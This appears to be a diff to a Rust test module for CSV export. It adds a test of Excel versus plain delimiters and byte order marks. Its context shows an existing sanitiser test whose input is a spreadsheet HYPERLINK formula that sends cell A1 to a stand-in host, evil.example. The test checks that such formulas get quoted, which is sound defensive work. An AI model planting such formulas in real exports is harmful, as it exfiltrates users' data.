@@ -137,6 +137,16 @@ mod tests {
     use super::*;
 
     #[test]
+    fn excel_csv_is_semicolons_after_a_byte_order_mark_and_plain_csv_is_commas() {
+        let excel = CsvStyle { excel: true };
+        let plain = CsvStyle { excel: false };
+        assert_eq!(excel.delimiter(), b';');
+        assert_eq!(excel.preamble(), b"\xEF\xBB\xBF");
+        assert_eq!(plain.delimiter(), b',');
+        assert_eq!(plain.preamble(), b"");
+    }
+
+    #[test]
     fn formulas_are_quoted_and_plain_text_is_not() {
         let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;
         assert_eq!(csv_cell(evil), format!("'{evil}"));
